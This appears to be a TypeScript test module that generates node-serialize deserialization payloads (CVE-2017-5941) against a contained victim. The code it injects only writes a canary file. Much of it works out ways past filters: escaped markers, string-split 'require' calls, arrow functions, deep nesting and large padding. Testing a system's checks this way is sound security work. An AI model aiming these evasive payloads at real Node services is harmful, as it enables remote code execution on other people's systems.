/**
 * Frames that carry code for a decoder that revives functions (CVE-2017-5941: node-serialize calls what it revives).
 * The code does one thing: it creates the trial's canary file. It runs in the contained victim process and nowhere else.
 */
import type { Tactic, Tools } from '../../src/model/attack.js';

const MARKER = '_$$ND_FUNC$$_';

export interface Payload extends Tactic {
  readonly place: 'member' | 'nick' | 'nested' | 'late' | 'each';
  /** How the text spells what it holds: as it is, the marker in JSON escapes, or every character of it. */
  readonly spelling: 'plain' | 'escaped-marker' | 'escaped';
  readonly source: 'plain' | 'disguised' | 'arrow' | 'long';
  /** How often the same frame is sent, one right behind the other: a check may remember the one before. */
  readonly times: number;
  /** The request that carries it to a relay; a list unless told. */
  readonly request?: 'leave' | 'others' | 'whole';
}

/** Members before the one with the code: more than whoever counts them looks at. */
const MEMBERS = 1000;
/** More than what looks at the beginning only looks at, and less than a strict codec refuses unread. */
const BALLAST = 100 * 1024;
/** Longer than any text that a screen of short ones looks at. */
const LONG = 20 * 1024;

export const payload = (
  id: string,
  does: string,
  place: Payload['place'] = 'member',
  spelling: Payload['spelling'] = 'plain',
  source: Payload['source'] = 'plain',
): Payload => ({ id, does, place, spelling, source, times: 1, together: true });

export const PAYLOADS: readonly Payload[] = [
  payload('extra-member', 'sends code in a member that the format does not have'),
  payload('nick', 'sends code in the place of a nick', 'nick'),
  payload('nested', 'sends code deep inside a member, in an array', 'nested'),
  payload('escaped-marker', 'sends code behind a marker spelt with JSON escapes', 'member', 'escaped-marker'),
  payload(
    'escaped',
    'sends code of which every character is a JSON escape',
    'nested',
    'escaped',
    'disguised',
  ),
  payload('disguised-source', 'sends code that names nothing suspicious', 'member', 'plain', 'disguised'),
  payload('ballast', `sends code behind ${MEMBERS} members and ${BALLAST / 1024} KiB of ballast`, 'late'),
  payload('arrow', 'sends code without the word function', 'member', 'escaped-marker', 'arrow'),
  {
    ...payload(
      'again',
      `sends the same frame with ${LONG / 1024} KiB of code twice`,
      'member',
      'plain',
      'long',
    ),
    times: 2,
  },
];

/** In each field that the format has: a check of the members' names, or of their types, lets that through. */
export const EACH_FIELD: Payload = {
  ...payload('each-field', 'sends code in the place of each field of the format in turn', 'each'),
  request: 'whole',
};

/** Sends a loaded frame as often as its tactic says. */
export function sendAll(
  { times }: Pick<Payload, 'times'>,
  frame: string,
  send: (frame: string) => void,
): void {
  for (let sent = 0; sent < times; sent++) send(frame);
}

/** A frame of this type with the payload in it, or several where it has several places. */
export function loaded(
  frame: { readonly header: object; readonly [member: string]: unknown },
  { place, spelling, source }: Payload,
  tools: Tools,
): string[] {
  const code = MARKER + tools.mint(SOURCES[source](tools));
  const [plain, escaped] = [JSON.stringify(code), `"${escapedText(code)}"`];
  return ARMED[place](frame, code).map((armed) => {
    const text = JSON.stringify(armed);
    if (spelling === 'escaped') return text.replace(plain, () => escaped);
    return spelling === 'plain' ? text : withMarkerEscaped(text);
  });
}

/** The value once for each field in it, with the code in that field's place. */
function inEachField(value: unknown, code: string): unknown[] {
  if (typeof value !== 'object' || value === null) return [code];
  return Object.entries(value).flatMap(([name, field]) =>
    inEachField(field, code).map((loaded) =>
      Array.isArray(value) ? value.with(Number(name), loaded) : { ...value, [name]: loaded },
    ),
  );
}

type Frame = Parameters<typeof loaded>[0];

/** Deeper than a look at the upper levels goes, and shallower than what only counts levels refuses. */
const LEVELS = 30;

const buried = (code: string): unknown => {
  let inner: unknown = code;
  for (let level = 0; level < LEVELS; level++) inner = level % 2 ? { deeper: inner } : [inner];
  return inner;
};

const ARMED: Readonly<Record<Payload['place'], (frame: Frame, code: string) => readonly unknown[]>> = {
  member: (frame, code) => [{ ...frame, options: { theme: code } }],
  nick: (frame, code) => [{ ...frame, header: { ...frame.header, nick: code } }],
  late: (frame, code) => [
    {
      ...frame,
      ...Object.fromEntries(Array.from({ length: MEMBERS }, (_, member) => [`m${member}`, 0])),
      ballast: ' '.repeat(BALLAST),
      options: { theme: code },
    },
  ],
  nested: (frame, code) => [{ ...frame, extra: buried(code) }],
  each: inEachField,
};

/** With capital digits at every other place: who undoes one spelling only does not see the whole. */
const escapedText = (text: string): string =>
  [...text]
    .map((letter, at) => {
      const digits = letter.charCodeAt(0).toString(16).padStart(4, '0');
      return `\\u${at % 2 ? digits.toUpperCase() : digits}`;
    })
    .join('');

const plain = ({ canary }: Tools): string =>
  `function(){require('fs').writeFileSync('${canary.file}','${canary.nonce}')}()`;

const SOURCES: Readonly<Record<Payload['source'], (tools: Tools) => string>> = {
  plain,
  long: (tools) => plain(tools).replace('{', () => `{/*${' '.repeat(LONG)}*/`),
  disguised: ({ canary }) =>
    `function(){const g=globalThis,r=g['re'+'quire'];r('f'+'s')['write'+'FileSync']('${canary.file}','${canary.nonce}')}()`,
  arrow: ({ canary }) =>
    `(()=>globalThis['re'+'quire']('f'+'s')['write'+'FileSync']('${canary.file}','${canary.nonce}')).call()`,
};

/** A message, as it stands inside all seals, with the payload beside its words: short, for it must fit into the bytes of another. */
export function loadedMessage(
  text: string,
  tools: Tools,
  spelling: 'plain' | 'escaped-marker' = 'plain',
): Uint8Array {
  const message = JSON.stringify({ text, o: shortCode(tools) });
  return Buffer.from(spelling === 'plain' ? message : withMarkerEscaped(message));
}

/** The same with the payload as its words. */
export const loadedWords = (tools: Tools): Uint8Array =>
  Buffer.from(JSON.stringify({ text: shortCode(tools) }));

const shortCode = ({ canary, mint }: Tools): string =>
  MARKER + mint(`require('fs').writeFileSync('${canary.file}','${canary.nonce}')`);

const withMarkerEscaped = (text: string): string => text.replace(MARKER, () => escapedText(MARKER));
